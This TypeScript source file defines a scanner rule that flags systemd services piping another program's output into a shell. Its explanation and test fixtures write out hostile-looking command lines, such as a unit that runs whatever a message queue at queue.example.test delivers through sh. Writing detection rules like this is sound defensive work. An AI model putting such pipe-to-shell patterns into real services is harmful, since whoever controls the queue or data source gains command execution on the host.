import { shipped, timed } from "./example-host.ts";
import type { ActivationRule } from "./rule.ts";
import { accuse, behavioursOfKind, isPackagedPlace } from "./subject.ts";

/** What runs is whatever a program prints at that moment. */
export const outputIsCode: ActivationRule = {
  id: "output-is-code",
  subject: "activation",
  title: "It runs what another program prints",
  severity: "high",
  confidence: "medium",
  signal: "suspicious",
  family: "execution",
  depth: "regular",
  techniques: ["T1053.006", "T1059", "T1027"],
  controls: ["CM-5", "SI-7"],
  why: "With `mosquitto_sub … | sh`, `redis-cli get x | sh` or `dd if=picture.jpg skip=9000 | sh` the commands stand in a queue, a database or the end of a picture: nobody who reads the unit sees them, and whoever fills that place commands this account.",
  benign: [
    "Commands put together by awk, sed or a script of the host, whose words can be read there (not accused)",
    "`eval` of what a tool says about its own environment (not accused)",
  ],
  clears: "write the commands in a script, and let only their arguments come from elsewhere",
  references: ["https://attack.mitre.org/techniques/T1059/"],

  *check(activation, inventory) {
    for (const { behaviour } of behavioursOfKind(activation, new Set(["output-to-interpreter"])))
      if (!isPackagedPlace(behaviour.span.path, activation, inventory)) yield accuse(behaviour, inventory);
  },

  examples: () => ({
    fires: [timed("ExecStart=/bin/sh -c 'mosquitto_sub -h queue.example.test -t jobs -C 1 | sh'")],
    finds: {
      1: ["suspicious high medium /etc/systemd/system/job.service:3: sh runs what mosquitto_sub prints."],
    },
    quiet: [
      timed("ExecStart=/bin/sh -c 'virsh list --name | sed \"s/^/virsh autostart /\" | sh'"),
      timed("ExecStart=/bin/sh -c 'eval \"$$(ssh-agent -s)\"'"),
      shipped("vendor", "ExecStart=/bin/sh -c 'vendor-jobs --print | sh'"),
    ],
  }),
};
